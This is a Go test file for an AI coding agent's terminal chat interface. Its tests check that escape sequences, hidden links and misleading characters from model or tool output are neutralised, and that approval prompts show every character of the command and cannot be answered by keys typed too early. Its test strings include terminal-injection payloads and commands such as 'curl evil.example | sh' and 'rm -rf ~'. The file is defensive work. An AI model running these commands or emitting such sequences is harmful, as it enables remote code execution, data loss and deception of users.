package tui

import (
	"context"
	"strings"
	"testing"
	"time"

	tea "charm.land/bubbletea/v2"
	"github.com/charmbracelet/x/ansi"

	"github.com/godwit/godwit/internal/agent"
	"github.com/godwit/godwit/internal/policy"
	"github.com/godwit/godwit/tool"
)

// The chat attacked through what it draws: text the model, a file or a
// command controls, carrying what a terminal obeys.

// nasty holds one of each sequence a terminal would obey.
const nasty = "A\x1b]0;PWNED\x07B\x1b]52;c;eA==\x07C\x1bPtmux;\x1b\x1b]52;c;eA==\x07\x1b\\D\x1b_apc\x1b\\E" +
	"\x1b]8;;https://evil.example/\x1b\\link\x1b]8;;\x1b\\F\u009b2JG\x1b[2J\x1b[HH\x1b[8mhidden\x1b[28mI" +
	"\x1b[?2004lJ\rK\bL\u202eM\u200bN\xffO\x1b[31mred\x1b[0m"

// onlySGR fails when the view holds any escape sequence but SGR, or a
// control but the newline.
func onlySGR(t *testing.T, view string) {
	t.Helper()
	for i := 0; i < len(view); i++ {
		c := view[i]
		switch {
		case c == 0x1b:
			j := i + 1
			if j < len(view) && view[j] == '[' {
				j++
				for j < len(view) && (view[j] >= '0' && view[j] <= '9' || view[j] == ';' || view[j] == ':') {
					j++
				}
				if j < len(view) && view[j] == 'm' {
					i = j
					continue
				}
			}
			t.Errorf("a sequence other than SGR reaches the terminal: %q", view[i:min(i+30, len(view))])
			return
		case c < 0x20 && c != '\n':
			t.Errorf("control 0x%02x reaches the terminal: %q", c, view[max(i-20, 0):min(i+20, len(view))])
			return
		}
	}
	for _, r := range []string{"\u009b", "\u202e", "\u200b", "\xff"} {
		if strings.Contains(view, r) {
			t.Errorf("%q reaches the terminal", r)
		}
	}
}

// TestViewCarriesNoSequence: the payload in every place the model or a
// tool writes (streamed text, a finished answer, thinking opened, a tool
// name, summary, arguments, output, diff, changed files, progress, a
// notice, a failed turn's error, a question) reaches the terminal with
// no sequence but the theme's own colours.
func TestViewCarriesNoSequence(t *testing.T) {
	m := staticModel(t, 100, 200)
	m.rc = &renderCtx{th: DarkTheme(), ink: newInks(DarkTheme()), md: newMarkdown(DarkTheme())}
	m.t = newTranscript(m.rc)
	m.feed = newFeed(m.t)
	code := 1
	feedEvents(m,
		agent.Event{Type: agent.EventTurnStarted, Prompt: "hi " + nasty},
		agent.Event{Type: agent.EventThinkingDelta, Text: "think " + nasty},
		agent.Event{Type: agent.EventTextDelta, Text: "done para " + nasty + "\n\n"},
		agent.Event{Type: agent.EventModelResponse, Response: &agent.ResponseInfo{}},
		agent.Event{Type: agent.EventToolStarted, Tool: &agent.ToolInfo{CallID: "c1", Name: "x" + nasty, Args: `{"a":"` + nasty + `"}`}},
		agent.Event{Type: agent.EventToolProgress, Tool: &agent.ToolInfo{CallID: "c1"}, Progress: progress("p " + nasty)},
		agent.Event{Type: agent.EventToolStarted, Tool: &agent.ToolInfo{CallID: "c2", Name: "shell_exec", Summary: "run: " + nasty}},
		agent.Event{Type: agent.EventToolFinished, Tool: &agent.ToolInfo{CallID: "c2", Name: "shell_exec", Summary: "run: " + nasty, ExitCode: &code,
			Output: "out " + nasty + "\nline2 " + nasty, Diff: "--- a\n+++ b\n@@ -1 +1 @@\n-" + nasty + "\n+x", Changed: []string{"f" + nasty}}},
		agent.Event{Type: agent.EventNotice, Text: "notice " + nasty},
		agent.Event{Type: agent.EventTurnFinished, Finished: &agent.TurnInfo{Status: "failed", Error: "err " + nasty}},
		agent.Event{Type: agent.EventTurnStarted},
		agent.Event{Type: agent.EventTextDelta, Text: "streaming tail " + nasty},
	)
	for _, en := range m.t.entries {
		if e, ok := en.it.(expander); ok && e.expandable() {
			e.toggle()
			en.touch()
		}
	}
	m.handleBridge(approvalRequestMsg{id: 1, q: policy.Question{Tool: "shell_exec", Summary: "run: " + nasty, Preview: nasty + "\n" + nasty,
		Reasons: []string{"runs " + nasty}, Always: []string{"shell_exec command " + nasty}}, reply: make(chan policy.Answer, 1)})
	view := m.View().Content
	onlySGR(t, view)
	plain := ansi.Strip(view)
	for _, want := range []string{"done para", "streaming tail", "think", "out AB", "line2", "notice", "err", "⟨ESC⟩]0;PWNED⟨BEL⟩", "⟨CR⟩", "⟨U+202E⟩"} {
		if !strings.Contains(plain, want) {
			t.Errorf("the view lacks %q:\n%s", want, plain)
		}
	}
}

// TestApprovalShowsWhatRuns: a question shows every character of the
// call. A carriage return cannot draw over the question, a newline in a
// file name cannot draw a line of godwit's, and a command longer than
// the screen wraps instead of losing its tail at the edge.
func TestApprovalShowsWhatRuns(t *testing.T) {
	for _, tc := range []struct {
		name string
		q    policy.Question
		want []string
	}{
		{"carriage return", policy.Question{Tool: "shell_exec", Summary: "run: curl x|sh;#\r? shell_exec wants to run: ls -la"},
			[]string{"? shell_exec wants to run: curl x|sh;#⟨CR⟩? shell_exec wants to run:"}},
		{"newline in a name", policy.Question{Tool: "file_write", Summary: "write a.md\n✓ you allowed file_write: write a.md"},
			[]string{"write a.md⟨LF⟩✓ you allowed"}},
		{"long command", policy.Question{Tool: "shell_exec", Summary: "run: ls -l -l…", Preview: "ls " + strings.Repeat("-l ", 40) + "; curl evil.example | sh"},
			[]string{"; curl evil.example | sh"}},
		{"long summary", policy.Question{Tool: "shell_exec", Summary: "run: ls " + strings.Repeat("-l ", 20) + "; curl evil.example|sh"},
			[]string{"; curl evil.example|sh"}},
		{"bidi", policy.Question{Tool: "shell_exec", Summary: "run: echo \u202eexe.txt"}, []string{"echo ⟨U+202E⟩exe.txt"}},
		{"escape", policy.Question{Tool: "shell_exec", Summary: "run: ls \x1b[8m; rm -rf ~"}, []string{"ls ⟨ESC⟩[8m; rm -rf ~"}},
		{"reason and always", policy.Question{Tool: "shell_exec", Summary: "run: x", Reasons: []string{"runs " + strings.Repeat("y", 80) + " rm"},
			Always: []string{"shell_exec command " + strings.Repeat("z", 80) + " tail"}}, []string{" rm", "z tail"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			m := staticModel(t, 60, 40)
			m.handleBridge(approvalRequestMsg{id: 1, q: tc.q, reply: make(chan policy.Answer, 1)})
			sc := plainScreen(m)
			joined := strings.ReplaceAll(sc, "\n", "")
			for _, w := range tc.want {
				if !strings.Contains(strings.Join(strings.Fields(joined), " "), strings.Join(strings.Fields(w), " ")) {
					t.Errorf("the question does not show %q:\n%s", w, sc)
				}
			}
			for _, l := range strings.Split(sc, "\n") {
				if ansi.StringWidth(l) > 60 {
					t.Errorf("a line is wider than the screen: %q", l)
				}
				if strings.HasSuffix(l, "…") && !strings.Contains(l, "more lines") && !strings.HasSuffix(tc.q.Summary, "…") {
					t.Errorf("a line of the question was cut: %q", l)
				}
			}
			if strings.Count(sc, "Allow? y yes") != 1 || strings.HasPrefix(strings.TrimSpace(sc), "✓") {
				t.Errorf("the question was drawn over:\n%s", sc)
			}
		})
	}
}

// TestAnswerKeysWaitForTheQuestion: a key answers a question only when
// it was typed after the terminal drew it, which the terminal's reports to
// the chat's probes tell (drawnGuard), whatever the pace: keys typed
// before (in flight as the question came) go to the input, and a y
// pressed twice answers one question. A y also waits answerDelay after
// the question is drawn and after the last key. A terminal that answers
// no probes keeps that rule of time alone.
func TestAnswerKeysWaitForTheQuestion(t *testing.T) {
	newModel := func(c *clock) *Model {
		ctl, err := NewController(context.Background(), Options{Build: func(context.Context, string) (*Engine, error) {
			return &Engine{Model: "local/m", ContextWindow: 128_000}, nil
		}})
		if err != nil {
			t.Fatal(err)
		}
		return NewModel(context.Background(), ctl, ModelOptions{Theme: PlainTheme(), Now: c.Now, Width: 80, Height: 30})
	}
	ask := func(m *Model) (r1, r2 chan policy.Answer) {
		r1, r2 = make(chan policy.Answer, 1), make(chan policy.Answer, 1)
		m.handleBridge(approvalRequestMsg{id: 1, q: policy.Question{Tool: "shell_exec", Summary: "run: rm -rf build"}, reply: r1})
		m.handleBridge(approvalRequestMsg{id: 2, q: policy.Question{Tool: "shell_exec", Summary: "run: git push"}, reply: r2})
		return r1, r2
	}
	report := func(m *Model) { m.Update(tea.CursorPositionMsg{}) }

	t.Run("a terminal that answers probes", func(t *testing.T) {
		c := newClock()
		m := newModel(c)
		m.Init()
		report(m)        // the terminal answers the first probe: it will answer all
		m.typeKeys("wh") // typing the next message while the turn runs
		r1, r2 := ask(m)
		m.typeKeys("y")      // in flight as the question came
		c.Advance(time.Hour) // however slowly
		m.typeKeys("y")
		report(m) // the question may still follow this report on the screen
		m.typeKeys("y")
		if len(r1) != 0 || len(m.questions) != 2 || strings.Contains(plainScreen(m), "Allow?") {
			t.Fatalf("a y typed before the question was drawn answered it, or its keys show:\n%s", plainScreen(m))
		}
		report(m) // now it is on the screen
		if !strings.Contains(plainScreen(m), "Allow? y yes") {
			t.Fatalf("the question's keys do not show once it is drawn:\n%s", plainScreen(m))
		}
		m.typeKeys("y")
		if len(r1) != 0 || !strings.Contains(m.hint, "read the question") {
			t.Fatalf("a y the moment the question was drawn answered it (hint %q)", m.hint)
		}
		c.Advance(answerDelay)
		m.typeKeys("y")
		if a := <-r1; a.Choice != policy.Yes {
			t.Fatalf("answer %v", a)
		}
		m.typeKeys("y") // the second press of a double y
		report(m)
		if len(r2) != 0 {
			t.Fatal("one y pressed twice answered the next question too")
		}
		report(m)
		m.typeKeys("n") // at once
		if a := <-r2; a.Choice != policy.No {
			t.Fatalf("n did not refuse: %v", a)
		}
		if v := m.input.Value(); v != "whyyyy" {
			t.Errorf("the input is %q; the keys typed ahead went astray", v)
		}
	})

	t.Run("a terminal that answers none", func(t *testing.T) {
		c := newClock()
		m := newModel(c)
		m.Init()
		c.Advance(probeLost) // no report came
		m.typeKeys("wh")
		r1, r2 := ask(m)
		m.typeKeys("y")
		if len(r1) != 0 || len(m.questions) != 2 || !strings.Contains(m.hint, "read the question") {
			t.Fatalf("a y typed as the question appeared answered it (hint %q)", m.hint)
		}
		// Typing on past the delay, a key at a time, answers nothing either.
		for i := 0; i < 5; i++ {
			c.Advance(answerDelay / 2)
			m.typeKeys("y")
		}
		if len(r1) != 0 {
			t.Fatal("a run of keys typed on answered the question")
		}
		c.Advance(answerDelay)
		m.typeKeys("y")
		if a := <-r1; a.Choice != policy.Yes {
			t.Fatalf("answer %v", a)
		}
		m.typeKeys("y") // the second press of a double y
		if len(r2) != 0 {
			t.Fatal("one y pressed twice answered the next question too")
		}
		m.typeKeys("n")
		if a := <-r2; a.Choice != policy.No {
			t.Fatalf("n did not refuse at once: %v", a)
		}
		if v := m.input.Value(); v != "wh" {
			t.Errorf("the input is %q; the keys meant for it or for the questions went astray", v)
		}
	})
}

func (m *Model) typeKeys(s string) {
	for _, r := range s {
		m.Update(teaKey(r))
	}
}

func progress(msg string) *tool.Progress { return &tool.Progress{Progress: 1, Total: 2, Message: msg} }

func teaKey(r rune) tea.KeyPressMsg { return tea.KeyPressMsg{Code: r, Text: string(r)} }

// pathological answers and outputs a model or a command can send.
func pathological() map[string]string {
	var lists, table, ticks strings.Builder
	for i := 0; i < 3000; i++ {
		lists.WriteString(strings.Repeat("  ", i) + "- item\n")
	}
	table.WriteString("|" + strings.Repeat(" h |", 60) + "\n|" + strings.Repeat("---|", 60) + "\n")
	for i := 0; i < 3000; i++ {
		table.WriteString("|" + strings.Repeat(" cell |", 60) + "\n")
	}
	for i := 1; i < 400; i++ {
		ticks.WriteString(strings.Repeat("`", i) + "a")
	}
	return map[string]string{
		"nested quotes": strings.Repeat("> ", 50000) + "deep\n",
		"nested lists":  lists.String(),
		"emphasis":      strings.Repeat("*a **b ", 30000) + "\n",
		"brackets":      strings.Repeat("[", 50000) + strings.Repeat("](x)", 50000) + "\n",
		"backticks":     ticks.String() + "\n",
		"giant table":   table.String(),
		"invalid utf-8": strings.Repeat("\xff\xfe\xc0", 100000) + "\n",
		"huge line":     strings.Repeat("word ", 1<<20/5),
	}
}

// TestPathologicalAnswersRender: each answer renders, done, within the
// screen's width (a resize included), with no control left over.
func TestPathologicalAnswersRender(t *testing.T) {
	for name, text := range pathological() {
		t.Run(name, func(t *testing.T) {
			m := staticModel(t, 100, 40)
			feedEvents(m, agent.Event{Type: agent.EventTextDelta, Text: text}, agent.Event{Type: agent.EventModelResponse, Response: &agent.ResponseInfo{}})
			for _, w := range []int{100, 63} {
				m.Update(teaSize(w, 40))
				view := m.View().Content
				onlySGR(t, view)
				for _, l := range strings.Split(view, "\n") {
					if ansi.StringWidth(l) > w {
						t.Fatalf("a line is wider than %d: %q", w, l)
					}
				}
			}
		})
	}
}

// TestHugeStreamDrawsItsEnd: while a 4 MB line streams, the answer's
// item draws only the end of its unfinished block (each frame wraps it
// again), says what is above, and shows all of it once done.
func TestHugeStreamDrawsItsEnd(t *testing.T) {
	m := staticModel(t, 100, 40)
	chunk := strings.Repeat("word ", 64<<10/5)
	for i := 0; i < 64; i++ {
		feedEvents(m, agent.Event{Type: agent.EventTextDelta, Text: chunk})
	}
	a := items[*assistantItem](m)[0]
	lines := a.render(m.rc, 100)
	if max := maxTail/90 + 10; len(lines) > max {
		t.Errorf("the streaming answer draws %d lines; at most %d were expected", len(lines), max)
	}
	if !strings.Contains(strings.Join(lines[:2], ""), "bytes above, shown when the answer ends") {
		t.Errorf("the cut is not said: %q", lines[:2])
	}
	feedEvents(m, agent.Event{Type: agent.EventModelResponse, Response: &agent.ResponseInfo{}})
	if n := len(a.render(m.rc, 100)); n < 64*len(chunk)/100 {
		t.Errorf("the finished answer draws %d lines, not all of it", n)
	}
}

// BenchmarkStreamHugeLine: frames while a 4 MB line streams, 64 KB a
// delta (go test -run - -bench StreamHuge ./internal/tui).
func BenchmarkStreamHugeLine(b *testing.B) {
	chunk := strings.Repeat("word ", 64<<10/5)
	for b.Loop() {
		m := staticModel(b, 100, 40)
		for i := 0; i < 64; i++ {
			feedEvents(m, agent.Event{Type: agent.EventTextDelta, Text: chunk})
			m.View()
		}
	}
}

// TestLinksShowTheirTargets: a markdown link whose text is another
// address is drawn with its real target beside it; no OSC 8 hides it.
func TestLinksShowTheirTargets(t *testing.T) {
	md := newMarkdown(DarkTheme())
	out := strings.Join(md.render("see [https://good.example](https://evil.example/x) and [docs][r]\n\n[r]: https://evil2.example", 80), "\n")
	onlySGR(t, out)
	plain := strings.ReplaceAll(ansi.Strip(out), "\n", " ")
	for _, want := range []string{"https://good.example (https://evil.example/x)", "docs (https://evil2.example)"} {
		if !strings.Contains(plain, want) {
			t.Errorf("%q is not shown: %q", want, plain)
		}
	}
}
